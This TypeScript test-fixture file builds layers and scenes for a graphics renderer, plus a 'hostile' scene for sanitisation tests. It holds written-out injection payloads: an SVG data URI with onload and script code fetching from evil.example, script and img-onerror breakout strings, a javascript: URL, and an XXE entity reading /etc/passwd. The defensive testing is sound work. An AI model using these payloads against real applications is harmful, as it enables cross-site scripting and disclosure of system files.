// Layers and scenes for tests.
import type { BaseLayer, Layer, Scene, ShapeLayer, TextLayer } from '../scene/scene.ts';

export const base = (id: string): BaseLayer => ({
  id,
  name: id,
  x: 0,
  y: 0,
  w: 100,
  h: 100,
  rotation: 0,
  opacity: 1,
  z: 0,
  locked: false,
  hidden: false,
  editable: [],
});

export const shape = (id: string, values: Partial<ShapeLayer> = {}): ShapeLayer => ({
  ...base(id),
  type: 'shape',
  shape: 'rectangle',
  fill: '#CC0000',
  radius: 0,
  ...values,
});

export const text = (value: string, values: Partial<TextLayer> = {}): TextLayer => ({
  ...base('text'),
  type: 'text',
  text: value,
  font: 'Inter',
  size: 40,
  color: '#000000',
  align: 'left',
  ...values,
});

export const sceneOf = (layers: Layer[], width = 400, height = 400): Scene => ({
  version: 1,
  width,
  height,
  background: '#FFFFFF',
  layers,
});

/** Loads a file of another host and runs a script, wherever a renderer lets it. */
export const HOSTILE_HREF = `data:image/svg+xml,${encodeURIComponent(
  '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="window.hacked=1">' +
    '<script>window.hacked=2;fetch("https://evil.example/script")</script>' +
    '<style>@import url(https://evil.example/style.css);</style>' +
    '<image href="https://evil.example/inner.png" width="10" height="10"/>' +
    '<foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/frame"/></foreignObject>' +
    '<rect width="10" height="10" fill="#00CC00"/></svg>',
)}`;

const EVIL = [
  '"/><script>window.hacked=3</script><image href="https://evil.example/x.png',
  '</svg><img src=x onerror="window.hacked=4">',
  'url(https://evil.example/#x)',
  'javascript:window.hacked=5',
  ']]><!ENTITY x SYSTEM "file:///etc/passwd">&x;',
];

/** A scene with an attack in every text that it has, and the pictures that come with it. */
export function hostileScene(): { scene: Scene; hrefs: string[] } {
  const layers = EVIL.flatMap((evil, i): Layer[] => {
    const at = { ...base(evil), x: (i % 4) * 100, y: 10 * i };
    return [
      text(evil, { ...at, color: evil, font: evil, align: evil as never }),
      shape(evil, { ...at, fill: evil, shape: evil as never }),
      { ...at, type: 'image', assetId: evil },
      { ...at, type: 'qr', color: evil },
      { ...at, type: 'photo', slot: i + 1 },
      { ...at, type: 'logo', x: evil as never, opacity: evil as never },
    ];
  });
  const scene = { ...sceneOf(layers), background: EVIL[0] ?? '' };
  const hrefs = ['https://evil.example/a.png', `data:image/png;base64,${EVIL[0]}`, HOSTILE_HREF];
  return { scene, hrefs };
}
